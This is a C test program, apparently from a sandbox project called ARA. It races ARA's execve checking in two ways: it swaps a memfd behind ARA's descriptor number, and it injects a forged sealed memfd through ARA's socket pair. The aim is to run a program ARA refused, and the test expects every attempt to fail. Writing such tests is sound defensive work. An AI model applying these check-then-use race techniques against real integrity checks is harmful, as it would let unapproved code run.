/* SPDX-License-Identifier: Apache-2.0 */
/*
 * ARA's execve checks, hashes and runs a sealed copy of the program: the
 * check and the hash must be of the bytes that run. Here they would not
 * be, if ARA used its copy's descriptor number in the process's shared
 * table: another App thread puts a memfd of its own, holding a program
 * ARA accepts, behind that number before ARA looks at the copy, then
 * rewrites its memfd with a program ARA refuses once the check is done.
 * ARA would check and measure the first and run the second.
 *
 * The program execed is TARGET with its PT_INTERP changed to a dynamic
 * linker that does not exist, which ARA's execve refuses (ENOEXEC); the
 * memfd first holds TARGET itself. A third thread keeps ARA's lock on its
 * staging window busy with executable mappings, so that the exec waits
 * there with its copy behind the number. exec_swap_target says which of
 * the two is running. Under ARA every exec is refused; the twin, against
 * libara that does its execve's work in the shared table, runs the
 * refused program.
 *
 * inject: the same forgery through the socket pair on which ARA's task
 * hands the sealed copy back (libara/src/dom0/private_files.c): a thread
 * sends a sealed memfd of its own, holding the refused program, into the
 * pair before the task sends ARA's copy, so that ARA receives the App's.
 * ARA must judge what it received by what its task made, not by the
 * number; the twin, against libara that takes the identity of the
 * received number, runs the refused program.
 *
 * usage: attack_exec_swap swap|inject TARGET
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/uio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "ara/domains.h"
#include "por_sysreg.h"

#define ATTEMPTS 60
#define WATCHED 8 /* descriptor numbers from the lowest free one */
#define BUSY_LEN (1u << 20)

static struct {
	char *benign, *evil;
	size_t size;
	int memfd, lowest;
	int stop, armed; /* armed: swap once in this attempt */
} s;

/* Descriptor n is one of ARA's memfds named name ("/memfd:NAME (deleted)"). */
static int is_ara_memfd(int n, const char *name)
{
	char link[32], target[128];
	ssize_t len;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", n);
	len = readlink(link, target, sizeof(target) - 1);
	if (len <= 0)
		return 0;
	target[len] = '\0';
	return strncmp(target, "/memfd:", 7) == 0 && strncmp(target + 7, name, strlen(name)) == 0 &&
	       target[7 + strlen(name)] == ' ';
}

static void *swapper(void *arg)
{
	(void)arg;
	while (!__atomic_load_n(&s.stop, __ATOMIC_ACQUIRE)) {
		int swapped = -1;

		if (!__atomic_load_n(&s.armed, __ATOMIC_ACQUIRE))
			continue;
		for (int n = s.lowest; n < s.lowest + WATCHED && swapped < 0; n++)
			if (is_ara_memfd(n, "ara-app") && dup3(s.memfd, n, 0) == n)
				swapped = n;
		if (swapped < 0)
			continue;
		/* Checked: ARA goes on to its next copies. Now the refused program. */
		int seen = 0;

		while (!seen && __atomic_load_n(&s.armed, __ATOMIC_ACQUIRE))
			for (int n = s.lowest; n < s.lowest + WATCHED && !seen; n++)
				seen = is_ara_memfd(n, "ara-libara");
		if (seen && pwrite(s.memfd, s.evil, s.size, 0) != (ssize_t)s.size)
			printf("FAIL: pwrite of the memfd: %s\n", strerror(errno));
		__atomic_store_n(&s.armed, 0, __ATOMIC_RELEASE);
	}
	return NULL;
}

/*
 * Sends the memfd into every socket at the watched numbers while the exec
 * lasts. One exec only: an exec ARA refuses after its commit has begun
 * leaves the thread a descriptor table of its own, out of this thread's
 * reach.
 */
static void *injector(void *arg)
{
	char byte = 0;
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} c;
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = c.buf,
			    .msg_controllen = sizeof(c.buf) };

	(void)arg;
	c.h.cmsg_len = CMSG_LEN(sizeof(int));
	c.h.cmsg_level = SOL_SOCKET;
	c.h.cmsg_type = SCM_RIGHTS;
	memcpy(CMSG_DATA(&c.h), &s.memfd, sizeof(int));
	while (!__atomic_load_n(&s.stop, __ATOMIC_ACQUIRE)) {
		int sent[WATCHED] = { 0 }, ends = 0;

		/* The first pair the exec makes (the program's) and only it: one message an end. */
		while (ends < 2 && __atomic_load_n(&s.armed, __ATOMIC_ACQUIRE))
			for (int n = 0; n < WATCHED && ends < 2; n++)
				if (!sent[n] && sendmsg(s.lowest + n, &m, MSG_DONTWAIT) == 1)
					sent[n] = 1, ends++;
		while (__atomic_load_n(&s.armed, __ATOMIC_ACQUIRE))
			;
	}
	return NULL;
}

/* Keeps ARA's staging window (and its lock) busy. */
static void *busy(void *arg)
{
	(void)arg;
	while (!__atomic_load_n(&s.stop, __ATOMIC_ACQUIRE)) {
		void *p = mmap(NULL, BUSY_LEN, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		if (p != MAP_FAILED)
			munmap(p, BUSY_LEN);
	}
	return NULL;
}

static int load(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	struct stat st;
	const Elf64_Ehdr *eh;

	if (fd < 0 || fstat(fd, &st) != 0 || st.st_size < (off_t)sizeof(Elf64_Ehdr)) {
		printf("FAIL: %s: %s\n", path, strerror(errno));
		return -1;
	}
	s.size = (size_t)st.st_size;
	s.benign = malloc(s.size);
	s.evil = malloc(s.size);
	if (!s.benign || !s.evil || pread(fd, s.benign, s.size, 0) != (ssize_t)s.size) {
		printf("FAIL: read %s\n", path);
		return -1;
	}
	close(fd);
	memcpy(s.evil, s.benign, s.size);
	eh = (const Elf64_Ehdr *)s.benign;
	for (int i = 0; i < eh->e_phnum; i++) {
		const Elf64_Phdr *ph = (const Elf64_Phdr *)(s.benign + eh->e_phoff) + i;

		if (ph->p_type == PT_INTERP && ph->p_filesz >= 2 && ph->p_offset + ph->p_filesz <= s.size) {
			s.evil[ph->p_offset + ph->p_filesz - 2] = 'X'; /* the last character before the NUL */
			return 0;
		}
	}
	printf("FAIL: %s has no PT_INTERP\n", path);
	return -1;
}

int main(int argc, char **argv)
{
	char evil_path[] = "/tmp/ara-exec-swap-XXXXXX";
	int evil_fd, refused = 0, errnos[ATTEMPTS];
	pthread_t t_swap, t_busy;

	int inject;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc != 3 || (strcmp(argv[1], "swap") != 0 && strcmp(argv[1], "inject") != 0)) {
		fprintf(stderr, "usage: %s swap|inject TARGET\n", argv[0]);
		return 2;
	}
	inject = strcmp(argv[1], "inject") == 0;
	if (por_el0_read() != ARA_POR_DOM2) {
		printf("FAIL: not running under ARA\n");
		return 1;
	}
	if (load(argv[2]) != 0)
		return 1;
	evil_fd = mkstemp(evil_path);
	/* swap: a memfd ARA cannot seal (its seal of the copy fails if it meets this one); inject: sealed. */
	s.memfd = memfd_create("app-memfd", MFD_CLOEXEC | (inject ? MFD_ALLOW_SEALING : 0));
	if (evil_fd < 0 || s.memfd < 0 || write(evil_fd, s.evil, s.size) != (ssize_t)s.size ||
	    fchmod(evil_fd, 0755) != 0) {
		printf("FAIL: set-up: %s\n", strerror(errno));
		return 1;
	}
	close(evil_fd);
	/* inject: the program ARA is asked to run is TARGET; the memfd, sealed like ARA's copy, the refused one. */
	if (inject && (pwrite(s.memfd, s.evil, s.size, 0) != (ssize_t)s.size ||
		       fcntl(s.memfd, F_ADD_SEALS, F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE))) {
		printf("FAIL: set-up of the sealed memfd: %s\n", strerror(errno));
		return 1;
	}
	/* The program ARA checked, if it runs, says the exec was not refused: the race was missed. */
	setenv("ARA_EXEC_SWAP_ATTACK", "1", 1);
	s.lowest = dup(0);
	close(s.lowest);
	/* The injector needs no wider window, only a CPU: no busy thread then. */
	if (pthread_create(&t_swap, NULL, inject ? injector : swapper, NULL) ||
	    (!inject && pthread_create(&t_busy, NULL, busy, NULL))) {
		printf("FAIL: pthread_create\n");
		return 1;
	}
	for (int i = 0; i < (inject ? 1 : ATTEMPTS); i++) {
		char *args[] = { inject ? argv[2] : evil_path, NULL };

		if (!inject && pwrite(s.memfd, s.benign, s.size, 0) != (ssize_t)s.size) {
			printf("FAIL: pwrite of the memfd: %s\n", strerror(errno));
			break;
		}
		__atomic_store_n(&s.armed, 1, __ATOMIC_RELEASE);
		execve(args[0], args, environ); /* returns only if refused */
		errnos[refused++] = errno;
		__atomic_store_n(&s.armed, 0, __ATOMIC_RELEASE);
	}
	__atomic_store_n(&s.stop, 1, __ATOMIC_RELEASE);
	pthread_join(t_swap, NULL);
	if (!inject)
		pthread_join(t_busy, NULL);
	unlink(evil_path);
	printf("ara-evidence: %d execs, another thread %s ARA's copy of the program: all refused "
	       "(first %s, last %s)\n",
	       refused, inject ? "sending a memfd of its own ahead of" : "swapping",
	       strerror(errnos[0]), strerror(errnos[refused - 1]));
	return refused == (inject ? 1 : ATTEMPTS) ? 0 : 1;
}
